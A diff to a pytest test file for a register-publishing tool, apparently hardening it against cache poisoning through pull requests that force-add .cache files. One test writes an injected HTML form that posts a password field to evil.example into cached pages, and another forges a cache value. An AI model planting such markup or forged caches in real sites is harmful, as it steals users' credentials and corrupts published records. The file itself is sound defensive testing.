@@ -477,9 +477,6 @@ def test_hostile_git_metadata_is_text_on_the_item_page(tmp_path):
     assert "\x1b" not in audit.stdout
 
 
-@pytest.mark.xfail(reason="needs cache hardening: generator/itemcache.py trusts any value stored under "
-                          ".cache/fbreg/items-v1/ for the SHA-256 of an item's bytes, and a pull request can "
-                          "force-add such a file (.cache/ is only git-ignored)", strict=False)
 def test_a_committed_item_cache_cannot_change_what_the_register_says(register):
     """The YAML a reviewer reads is the truth: a cache file shipped with the change (``git add -f``)
     must not make validation or the site see another value for the same bytes."""
@@ -493,13 +490,12 @@ def test_a_committed_item_cache_cannot_change_what_the_register_says(register):
     cache = register.parent / ".cache/fbreg/items-v1"
     cache.mkdir(parents=True)
     (cache / f"{key[:2]}.json").write_text(json.dumps({key: forged}))
-    out = worker(register)
+    commit_everything(register.parent)          # what a pull request can ship: git add -f .cache
+    out = worker(register, force=True)
     assert out["items"]["QF-2026-0001"]["title"] == "Cold breakfast served in the restaurant"
+    assert "cache-committed" in [p["code"] for p in out["problems"]]
 
 
-@pytest.mark.xfail(reason="needs cache hardening: generator/pagecache.py puts any HTML stored under "
-                          ".cache/fbreg/pages-v1/ into the item page whose inputs hash to its name (the key is "
-                          "computable from public data, and a pull request can force-add such a file)", strict=False)
 def test_a_committed_page_cache_cannot_put_markup_into_the_site(tmp_path):
     """Rendered item content is cached by the hash of its inputs. A file there with an item's key, as a
     pull request could ship it, must not reach the published page (here: the real cache files of a first
@@ -517,6 +513,16 @@ def test_a_committed_page_cache_cannot_put_markup_into_the_site(tmp_path):
         pytest.skip("no rendered-page cache in this build")
     for page in pages:
         page.write_text('<form action="https://evil.example/xss"><input name="password"></form>')
-    assert subprocess.run([str(FBREG), "build"], cwd=tmp_path, capture_output=True, timeout=300).returncode == 0
+    commit_everything(tmp_path)                  # what a pull request can ship: git add -f .cache
+    build = subprocess.run([str(FBREG), "build"], cwd=tmp_path, capture_output=True, text=True, timeout=300)
+    assert build.returncode == 1 and "cache-committed" in build.stderr + build.stdout   # refused outright
     html = (tmp_path / "site/items/QF-2026-0001/index.html").read_text(encoding="utf-8")
     assert "evil.example" not in html
+
+
+def commit_everything(root: Path) -> None:
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C", str(root)]
+    subprocess.run(git[:5] + ["init", "-q", str(root)], check=True)
+    subprocess.run(git + ["add", "-A"], check=True)
+    subprocess.run(git + ["add", "-f", ".cache"], check=True)
+    subprocess.run(git + ["commit", "-qm", "a change that ships a cache"], check=True)
